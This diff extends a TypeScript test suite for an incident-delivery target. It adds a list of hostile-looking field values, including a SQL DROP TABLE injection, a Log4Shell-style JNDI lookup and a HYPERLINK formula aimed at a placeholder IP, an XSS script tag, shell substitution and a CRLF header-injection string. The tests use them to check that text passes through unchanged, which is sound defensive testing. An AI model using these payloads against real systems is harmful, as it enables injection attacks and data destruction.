@@ -7,6 +7,18 @@ import type { TargetSubject } from '../TargetSubject.js';
 
 const MEGABYTE = 1024 * 1024;
 
+/** What somebody may type into a field, and a destination may take for its own language. */
+const TEXTS = [
+  'Ünïcode 😀👩‍💻 データ',
+  `"quoted" 'twice' \\back\\slash`,
+  '100% $(HOME) {{x}} ; -- /*',
+  `Robert'); DROP TABLE incident; --`,
+  '=HYPERLINK("http://192.0.2.1")',
+  '${jndi:ldap://192.0.2.1/a} %s %n {0}',
+  '<script>alert(1)</script> &amp; ]]>',
+  '{"index":{"_id":"7"}}',
+];
+
 export const oddValues: readonly TargetScenario[] = [
   {
     name: 'accepts fields that are null or missing, and never writes the word null or undefined for them',
@@ -27,7 +39,7 @@ export const oddValues: readonly TargetScenario[] = [
     name: 'writes emoji, other scripts, quotes and markup unchanged',
     async run(subject) {
       await subject.open();
-      for (const name of ['Ünïcode 😀👩‍💻 データ', `"quoted" 'twice' \\back\\slash`, '100% $(HOME) {{x}} ; -- /*']) {
+      for (const name of TEXTS) {
         await subject.delivered(anIncident({ payload: { name } }));
         const seen = await subject.there(anIncident());
         must(says(seen, name), `carry text as it is: ${show(name)}`, `readBack gave ${show(seen)}`);
@@ -35,9 +47,14 @@ export const oddValues: readonly TargetScenario[] = [
     },
   },
   {
-    name: 'accepts or refuses half of a surrogate pair and control characters',
+    name: 'accepts or refuses half of a surrogate pair, control characters, NUL and line breaks',
     run: (subject) =>
-      eachAlone(subject, [{ name: 'half \ud83d of a pair' }, { name: 'bell \u0007 and escape \u001b' }]),
+      eachAlone(subject, [
+        { name: 'half \ud83d of a pair' },
+        { name: 'bell \u0007 and escape \u001b' },
+        { name: 'nul \u0000 inside' },
+        { name: 'two\r\nX-Header: lines' },
+      ]),
   },
   {
     name: 'accepts a megabyte of text whole, or refuses it',
